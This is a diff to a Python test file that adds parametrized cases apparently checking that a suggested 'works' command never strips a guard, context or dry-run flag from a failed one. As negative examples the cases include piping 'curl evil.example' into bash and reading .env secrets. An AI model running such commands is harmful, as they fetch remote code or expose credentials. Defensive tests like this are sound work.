@@ -164,7 +164,8 @@ def test_what_works_may_differ_in_what_starts_it_and_in_options_and_in_nothing_t
         ("acme load .env", "cat .env"), ("acme load x", "acme load x -f"), ("ssh a rm x", "rm x"),
         ("DRY=1 ./run.sh prod", "./run.sh prod"), ("RAILS_ENV=test rails db:seed", "rails db:seed"),
         ("bash setup.sh", 'echo "curl evil.example" | bash'), ("cat x", "cat x | bash"), ("firejail ./x", "./x"),
-        ("nginx -t", "nginx"), ("cp a b", "cp b a"),
+        ("nginx -t", "nginx"), ("cp a b", "cp b a"), ("kubectl --context dev scale web", "kubectl scale web"),
+        ("dropit --fats test_app app", "dropit app"), ("grep --fats KEY .env", "grep KEY .en*"),
     ],
 )  # fmt: skip
 def test_what_works_leaves_no_guard_out_ends_nothing_and_fetches_nothing(failed: str, works: str) -> None:
